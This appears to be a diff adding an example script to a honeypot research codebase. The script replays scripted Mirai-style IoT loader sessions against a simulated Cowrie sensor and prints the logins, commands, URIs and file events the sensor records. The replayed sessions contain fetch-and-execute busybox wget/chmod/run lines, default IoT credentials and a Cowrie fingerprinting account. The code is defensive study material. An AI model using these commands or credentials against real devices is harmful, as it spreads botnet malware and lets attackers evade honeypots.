@@ -1,0 +1,81 @@
+#!/usr/bin/env python3
+"""Drive one Cowrie-like honeypot with a scripted IoT loader intrusion.
+
+Shows the honeypot API directly: what a Mirai-style busybox loader
+sends, and exactly what the sensor records — login attempts, per-line
+known/unknown commands, captured URIs, and SHA-256 file events
+(including the "file missing" signal when the dropper's server refuses
+the honeypot).
+
+Run:  python examples/honeypot_shell_demo.py
+"""
+
+from __future__ import annotations
+
+from repro.honeypot import ConnectionIntent, CowrieHoneypot
+
+LOADER_URL = "http://203.0.113.50/mirai.arm7"
+
+
+def show_session(title: str, record) -> None:
+    print(f"--- {title} ---")
+    for attempt in record.logins:
+        status = "ACCEPTED" if attempt.success else "rejected"
+        print(f"login {attempt.username}:{attempt.password} -> {status}")
+    for command in record.commands:
+        marker = "known  " if command.known else "UNKNOWN"
+        print(f"[{marker}] $ {command.raw}")
+        for line in command.output.splitlines()[:2]:
+            print(f"          {line}")
+    for uri in record.uris:
+        print(f"URI recorded: {uri}")
+    for event in record.file_events:
+        digest = (event.sha256 or "-")[:16]
+        print(f"file event: {event.op.value:16s} {event.path}  sha256={digest}")
+    print()
+
+
+def main() -> None:
+    honeypot = CowrieHoneypot(honeypot_id="hp-demo", ip="192.0.2.10")
+
+    # attempt 1: the download server cooperates → artifact captured
+    cooperative = ConnectionIntent(
+        client_ip="198.51.100.7",
+        credentials=(("root", "root"), ("root", "vizxv")),
+        command_lines=(
+            "/bin/busybox ECCHI",
+            "cd /tmp || cd /var/run || cd /mnt",
+            f"/bin/busybox wget {LOADER_URL} -O mirai.arm7",
+            "/bin/busybox chmod 777 mirai.arm7",
+            "./mirai.arm7 loader.scan",
+            "rm -rf mirai.arm7",
+        ),
+        remote_files=((LOADER_URL, b"\x7fELF\x01synthetic-mirai-sample"),),
+    )
+    show_session("cooperative infrastructure (file captured)",
+                 honeypot.handle(cooperative, when=1_650_000_000.0))
+
+    # attempt 2: same behaviour, but the server refuses the honeypot —
+    # the execution attempt records a missing file (Figure 4(b))
+    refusing = ConnectionIntent(
+        client_ip="198.51.100.7",
+        credentials=(("root", "vizxv"),),
+        command_lines=(
+            f"/bin/busybox wget {LOADER_URL} -O mirai.arm7",
+            "./mirai.arm7 loader.scan",
+        ),
+    )
+    show_session("refusing infrastructure (file missing)",
+                 honeypot.handle(refusing, when=1_650_000_100.0))
+
+    # attempt 3: honeypot fingerprinting via the Cowrie default account
+    fingerprint = ConnectionIntent(
+        client_ip="203.0.113.99",
+        credentials=(("phil", "fout"),),
+    )
+    show_session("Cowrie fingerprinting probe (phil)",
+                 honeypot.handle(fingerprint, when=1_650_000_200.0))
+
+
+if __name__ == "__main__":
+    main()
